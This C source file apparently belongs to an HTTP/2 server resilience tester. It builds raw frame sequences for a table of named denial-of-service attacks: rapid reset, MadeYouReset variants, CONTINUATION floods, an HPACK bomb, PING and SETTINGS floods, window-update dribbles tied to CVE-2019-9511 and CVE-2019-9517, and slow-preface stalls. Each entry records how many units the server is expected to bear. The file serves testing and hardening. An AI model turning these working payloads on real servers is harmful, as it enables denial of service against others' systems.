/* SPDX-License-Identifier: MIT */
#include "kinds.h"
#include <string.h>
#include "h2_frame.h"

static size_t frame(uint8_t *out, unsigned type, unsigned flags, uint32_t id, const void *payload, size_t n) {
    h2_frame_header header = {(uint32_t)n, (uint8_t)type, (uint8_t)flags, id};
    h2_frame_header_write(out, &header);
    if (n > 0) memcpy(out + H2_FRAME_HEADER_BYTES, payload, n);
    return H2_FRAME_HEADER_BYTES + n;
}

static size_t number(uint8_t *out, unsigned type, uint32_t id, uint32_t value) {
    uint8_t payload[H2_U32_BYTES];
    h2_u32_write(payload, value);
    return frame(out, type, 0, id, payload, sizeof payload);
}

static uint32_t stream(uint32_t i) {
    return 2 * i + 1;
}

/* :method POST, :scheme http, :path /, :authority a */
#define REQUEST                                                                                                        \
    "\x83\x86\x84\x01\x01"                                                                                             \
    "a"

static size_t request(uint8_t *out, uint32_t id, unsigned flags) {
    return frame(out, H2_HEADERS, H2_FLAG_END_HEADERS | flags, id, REQUEST, sizeof REQUEST - 1);
}

/* The same once, on stream 1. */
static size_t opened(uint8_t *out, uint32_t i) {
    return i == 0 ? request(out, 1, 0) : 0;
}

static size_t honest(uint8_t *out, uint32_t i) {
    return request(out, stream(i), H2_FLAG_END_STREAM);
}
static size_t rapid_reset(uint8_t *out, uint32_t i) {
    size_t n = request(out, stream(i), H2_FLAG_END_STREAM);
    return n + number(out + n, H2_RST_STREAM, stream(i), H2_CANCEL);
}
static size_t made_increment(uint8_t *out, uint32_t i) {
    size_t n = request(out, stream(i), H2_FLAG_END_STREAM);
    return n + number(out + n, H2_WINDOW_UPDATE, stream(i), 0);
}
static size_t made_overflow(uint8_t *out, uint32_t i) {
    size_t n = request(out, stream(i), 0);
    return n + number(out + n, H2_WINDOW_UPDATE, stream(i), H2_WINDOW_MAX);
}
static size_t made_data(uint8_t *out, uint32_t i) {
    size_t n = request(out, stream(i), H2_FLAG_END_STREAM);
    return n + frame(out + n, H2_DATA, 0, stream(i), "x", 1);
}
static size_t made_priority(uint8_t *out, uint32_t i) {
    size_t n = request(out, stream(i), H2_FLAG_END_STREAM);
    return n + frame(out + n, H2_PRIORITY, 0, stream(i), "1234", 4);
}
static size_t made_headers(uint8_t *out, uint32_t i) {
    size_t n = request(out, stream(i), H2_FLAG_END_STREAM);
    return n + request(out + n, stream(i), H2_FLAG_END_STREAM);
}
static size_t made_itself(uint8_t *out, uint32_t i) {
    uint8_t record[H2_PRIORITY_BYTES] = {0};
    size_t n = request(out, stream(i), H2_FLAG_END_STREAM);
    h2_u32_write(record, stream(i));
    return n + frame(out + n, H2_PRIORITY, 0, stream(i), record, sizeof record);
}
/* A content-length of 1 and two octets. */
static size_t made_length(uint8_t *out, uint32_t i) {
    static const char block[] = REQUEST "\x0f\x0d\x01"
                                        "1";
    size_t n = frame(out, H2_HEADERS, H2_FLAG_END_HEADERS, stream(i), block, sizeof block - 1);
    return n + frame(out + n, H2_DATA, H2_FLAG_END_STREAM, stream(i), "xx", 2);
}
/* Trailers that do not end their stream. */
static size_t made_trailers(uint8_t *out, uint32_t i) {
    size_t n = request(out, stream(i), 0);
    return n + frame(out + n, H2_HEADERS, H2_FLAG_END_HEADERS, stream(i), "\x00\x01x\x01y", 5);
}
static size_t malformed(uint8_t *out, uint32_t i) {
    return frame(out, H2_HEADERS, H2_FLAG_END_HEADERS | H2_FLAG_END_STREAM, stream(i), "\x83", 1);
}
static size_t empty_names(uint8_t *out, uint32_t i) {
    return frame(out, H2_HEADERS, H2_FLAG_END_HEADERS | H2_FLAG_END_STREAM, stream(i), "\x83\x86\x84\0\0\0\0\0\0", 9);
}
static size_t too_many(uint8_t *out, uint32_t i) {
    return request(out, stream(i), 0);
}
static size_t continuation_empty(uint8_t *out, uint32_t i) {
    return frame(out, i == 0 ? H2_HEADERS : H2_CONTINUATION, 0, 1, NULL, 0);
}
static size_t continuation_full(uint8_t *out, uint32_t i) {
    uint8_t payload[16384];
    memset(payload, 0x88, sizeof payload);
    return frame(out, i == 0 ? H2_HEADERS : H2_CONTINUATION, 0, 1, payload, sizeof payload);
}
/* One entry of 4,000 octets, then references to it: 3.6 MB unpacked. */
static size_t hpack_bomb(uint8_t *out, uint32_t i) {
    uint8_t block[5000] = REQUEST;
    size_t n = sizeof REQUEST - 1;
    if (i == 0) {
        memcpy(block + n, "\x40\x01x\x7f\xa1\x1e", 6);
        memset(block + n + 6, 'x', 4000);
        n += 4006;
    }
    memset(block + n, 0xbe, 900);
    return frame(out, H2_HEADERS, H2_FLAG_END_HEADERS | H2_FLAG_END_STREAM, stream(i), block, n + 900);
}
/* Huffman strings as long as a frame, of the shortest codes. */
static size_t huffman_long(uint8_t *out, uint32_t i) {
    uint8_t block[16000] = REQUEST;
    size_t n = sizeof REQUEST - 1;
    memcpy(block + n, "\x00\x01x\xff\xff\x7a", 6); /* 15,870 octets, 8 symbols in every 5 */
    memset(block + n + 6, 0, 15870);
    return frame(out, H2_HEADERS, H2_FLAG_END_HEADERS | H2_FLAG_END_STREAM, stream(i), block, n + 6 + 15870);
}
static size_t string_endless(uint8_t *out, uint32_t i) {
    (void)i;
    return frame(out, H2_HEADERS, 0, 1, "\x00\xff\x80\x80\x80\x10", 6);
}
static size_t table_updates(uint8_t *out, uint32_t i) {
    (void)i;
    return frame(out, H2_HEADERS, H2_FLAG_END_HEADERS, 1, "\x20\x3f\xe1\x1f\x20", 5);
}
/* Two of them are allowed: each block empties the table, makes it large again and puts an entry there. */
static size_t table_emptied(uint8_t *out, uint32_t i) {
    static const char block[] = "\x20\x3f\xe1\x1f" REQUEST "\x40\x01x\x01y";
    return frame(out, H2_HEADERS, H2_FLAG_END_HEADERS | H2_FLAG_END_STREAM, stream(i), block, sizeof block - 1);
}
static size_t ping(uint8_t *out, uint32_t i) {
    (void)i;
    return frame(out, H2_PING, 0, 0, "flooding", H2_PING_BYTES);
}
static size_t ping_answer(uint8_t *out, uint32_t i) {
    (void)i;
    return frame(out, H2_PING, H2_FLAG_ACK, 0, "flooding", H2_PING_BYTES);
}
/* A program waits to read meanwhile. */
static size_t ping_beside(uint8_t *out, uint32_t i) {
    size_t n = opened(out, i);
    return n + ping(out + n, i);
}
static size_t settings(uint8_t *out, uint32_t i) {
    (void)i;
    return frame(out, H2_SETTINGS, 0, 0, NULL, 0);
}
static size_t settings_entries(uint8_t *out, uint32_t i) {
    uint8_t payload[16380];
    (void)i;
    for (size_t at = 0; at < sizeof payload; at += H2_SETTING_BYTES) memcpy(payload + at, "\0\x05\0\0\x40", 6);
    return frame(out, H2_SETTINGS, 0, 0, payload, sizeof payload);
}
/* The table's size moves between any two requests. */
static size_t table_churn(uint8_t *out, uint32_t i) {
    size_t n = frame(out, H2_SETTINGS, 0, 0, i % 2 ? "\0\1\0\0\x10" : "\0\1\0\0\0", H2_SETTING_BYTES);
    return n + request(out + n, stream(i), H2_FLAG_END_STREAM);
}
static size_t window_churn(uint8_t *out, uint32_t i) {
    size_t n = opened(out, i);
    return n + frame(out + n, H2_SETTINGS, 0, 0, i % 2 ? "\0\4\0\0\x10" : "\0\4\0\0\0", H2_SETTING_BYTES);
}
static size_t reset_late(uint8_t *out, uint32_t i) {
    size_t n = opened(out, i);
    return n + number(out + n, H2_RST_STREAM, 1, H2_CANCEL);
}
static size_t priority(uint8_t *out, uint32_t i) {
    return frame(out, H2_PRIORITY, 0, stream(i % 1000), "\x80\0\0\0\x10", H2_PRIORITY_BYTES);
}
static size_t priority_update(uint8_t *out, uint32_t i) {
    uint8_t payload[] = "\0\0\0\0u=1";
    h2_u32_write(payload, stream(i % 1000));
    return frame(out, H2_PRIORITY_UPDATE, 0, 0, payload, sizeof payload - 1);
}
static size_t data_empty(uint8_t *out, uint32_t i) {
    size_t n = opened(out, i);
    return n + frame(out + n, H2_DATA, 0, 1, NULL, 0);
}
static size_t data_padding(uint8_t *out, uint32_t i) {
    size_t n = opened(out, i);
    return n + frame(out + n, H2_DATA, H2_FLAG_PADDED, 1, "", 1);
}
/* All that comes back is taken. */
static size_t opened_wide(uint8_t *out, uint32_t i) {
    size_t n = opened(out, i);
    if (i > 0) return n;
    n += number(out + n, H2_WINDOW_UPDATE, 0, 1u << 30);
    return n + number(out + n, H2_WINDOW_UPDATE, 1, 1u << 30);
}
/* Each octet in a frame of its own, echoed. */
static size_t data_octets(uint8_t *out, uint32_t i) {
    size_t n = opened_wide(out, i);
    return n + frame(out + n, H2_DATA, 0, 1, "x", 1);
}
static size_t unknown(uint8_t *out, uint32_t i) {
    (void)i;
    return frame(out, 0xbe, 0xff, 1, NULL, 0);
}
static size_t goaway(uint8_t *out, uint32_t i) {
    (void)i;
    return frame(out, H2_GOAWAY, 0, 0, "\0\0\0\0\0\0\0", H2_GOAWAY_FIXED_BYTES);
}
static size_t window_update(uint8_t *out, uint32_t i) {
    (void)i;
    return number(out, H2_WINDOW_UPDATE, 0, H2_TINY_OCTETS);
}
static size_t window_tiny(uint8_t *out, uint32_t i) {
    (void)i;
    return number(out, H2_WINDOW_UPDATE, 0, 1);
}
/* CVE-2019-9511: much is asked for and taken an octet at a time. */
static size_t dribble(uint8_t *out, uint32_t i) {
    static const uint8_t body[16000];
    if (i > 0) return number(out, H2_WINDOW_UPDATE, 1, 1);
    size_t n = frame(out, H2_SETTINGS, 0, 0, "\0\4\0\0\0", H2_SETTING_BYTES);
    n += request(out + n, 1, 0);
    return n + frame(out + n, H2_DATA, 0, 1, body, sizeof body);
}
/* CVE-2019-9517: much is asked for and nothing read from the socket. */
static size_t upload(uint8_t *out, uint32_t i) {
    static const uint8_t body[16000];
    if (i > 0) return frame(out, H2_DATA, 0, 1, body, sizeof body);
    size_t n = request(out, 1, 0);
    return n + number(out + n, H2_WINDOW_UPDATE, 0, 1u << 30);
}
/* What the server's windows allow is sent, the echo of it is not let out. */
static size_t fill_windows(uint8_t *out, uint32_t i) {
    static const uint8_t body[16000];
    size_t n = i == 0 ? frame(out, H2_SETTINGS, 0, 0, "\0\4\0\0\0", H2_SETTING_BYTES) : 0;
    if (i % 16 == 0) n += request(out + n, stream(i / 16), 0);
    return n + frame(out + n, H2_DATA, 0, stream(i / 16), body, sizeof body);
}
static size_t stall(uint8_t *out, uint32_t i) {
    static const uint8_t body[1000];
    size_t n = i == 0 ? frame(out, H2_SETTINGS, 0, 0, "\0\4\0\0\0", H2_SETTING_BYTES) : 0;
    n += request(out + n, stream(i), 0);
    return n + frame(out + n, H2_DATA, H2_FLAG_END_STREAM, stream(i), body, sizeof body);
}
static size_t slow_preface(uint8_t *out, uint32_t i) {
    (void)i;
    memcpy(out, H2_PREFACE, H2_PREFACE_BYTES);
    return H2_PREFACE_BYTES - 1;
}
static size_t slow_block(uint8_t *out, uint32_t i) {
    (void)i;
    return frame(out, H2_HEADERS, 0, 1, "\x83", 1);
}
static size_t oversize(uint8_t *out, uint32_t i) {
    (void)i;
    memcpy(out, "\x00\x40\x01\x00\x00\x00\x00\x00\x01", H2_FRAME_HEADER_BYTES);
    return H2_FRAME_HEADER_BYTES;
}
static size_t noise(uint8_t *out, uint32_t i) {
    (void)i;
    memset(out, 0x16, 100);
    return 100;
}

const attack_kind attack_kinds[] = {
    {.name = "honest small requests", .unit = honest, .in_flight = 64},
    {.name = "rapid reset", .unit = rapid_reset, .ends = true, .bears = 1000},
    {.name = "MadeYouReset: zero increment", .unit = made_increment, .ends = true, .bears = 1000},
    {.name = "MadeYouReset: window overflow", .unit = made_overflow, .ends = true, .bears = 1000},
    {.name = "MadeYouReset: DATA after end", .unit = made_data, .ends = true, .bears = 1000},
    {.name = "MadeYouReset: PRIORITY length", .unit = made_priority, .ends = true, .bears = 1000},
    {.name = "MadeYouReset: HEADERS after end", .unit = made_headers, .ends = true, .bears = 1000},
    {.name = "MadeYouReset: self-dependency", .unit = made_itself, .ends = true, .bears = 1000},
    {.name = "MadeYouReset: content length", .unit = made_length, .ends = true, .bears = 1000},
    {.name = "MadeYouReset: trailers open", .unit = made_trailers, .ends = true, .bears = 1000},
    {.name = "malformed requests", .unit = malformed, .ends = true, .bears = 1000},
    {.name = "zero-length headers", .unit = empty_names, .ends = true, .bears = 1000},
    {.name = "too many streams", .unit = too_many, .ends = true, .bears = 1128},
    {.name = "empty CONTINUATION", .unit = continuation_empty, .ends = true, .bears = 9, .in_block = true},
    {.name = "full CONTINUATION", .unit = continuation_full, .ends = true, .bears = 4, .in_block = true},
    {.name = "HPACK bomb", .unit = hpack_bomb, .ends = true, .bears = 1000},
    {.name = "long Huffman strings", .unit = huffman_long, .ends = true, .bears = 1000},
    {.name = "endless Huffman string", .unit = string_endless, .ends = true, .in_block = true},
    {.name = "third table-size update", .unit = table_updates, .ends = true},
    {.name = "table emptied in each block", .unit = table_emptied, .in_flight = 64},
    {.name = "PING", .unit = ping, .ends = true, .bears = 10000},
    {.name = "answers to no PING", .unit = ping_answer, .ends = true, .bears = 10000},
    {.name = "PING, answers unread", .unit = ping, .manner = ATTACK_DEAF},
    {.name = "PING beside a stream, unread", .unit = ping_beside, .manner = ATTACK_DEAF},
    {.name = "SETTINGS", .unit = settings, .ends = true, .bears = 1000},
    {.name = "SETTINGS, answers unread", .unit = settings, .manner = ATTACK_DEAF},
    {.name = "SETTINGS of many entries", .unit = settings_entries, .ends = true, .bears = 1000},
    {.name = "table-size churn", .unit = table_churn, .in_flight = 64, .ends = true, .bears = 1000},
    {.name = "window churn", .unit = window_churn, .ends = true, .bears = 1000},
    {.name = "late resets", .unit = reset_late, .ends = true, .bears = 1000},
    {.name = "PRIORITY", .unit = priority, .ends = true, .bears = 10000},
    {.name = "PRIORITY_UPDATE", .unit = priority_update, .ends = true, .bears = 10000},
    {.name = "empty DATA", .unit = data_empty, .ends = true, .bears = 1000},
    {.name = "DATA of padding", .unit = data_padding, .ends = true, .bears = 10000},
    {.name = "DATA of one octet", .unit = data_octets},
    {.name = "unknown frames", .unit = unknown, .ends = true, .bears = 10000},
    {.name = "GOAWAY", .unit = goaway, .ends = true, .bears = 10000},
    {.name = "WINDOW_UPDATE of 16", .unit = window_update},
    {.name = "WINDOW_UPDATE of 1", .unit = window_tiny, .ends = true, .bears = 10000},
    {.name = "data dribble", .unit = dribble, .ends = true, .bears = 10000},
    {.name = "upload, echo unread", .unit = upload, .manner = ATTACK_DEAF},
    {.name = "windows filled",
     .unit = fill_windows,
     .manner = ATTACK_HOLD,
     .hold = 64,
     .unread_kib = 1024,
     .patient = true},
    {.name = "zero-window stall", .unit = stall, .manner = ATTACK_HOLD, .hold = 100, .holds_streams = true},
    {.name = "slow header block", .unit = slow_block, .manner = ATTACK_HOLD, .hold = 1},
    {.name = "slow preface", .unit = slow_preface, .manner = ATTACK_HOLD, .hold = 1, .bare = true},
    {.name = "oversize frame", .unit = oversize, .ends = true},
    {.name = "noise", .unit = noise, .bare = true, .ends = true},
};
const size_t attack_kinds_count = sizeof attack_kinds / sizeof *attack_kinds;
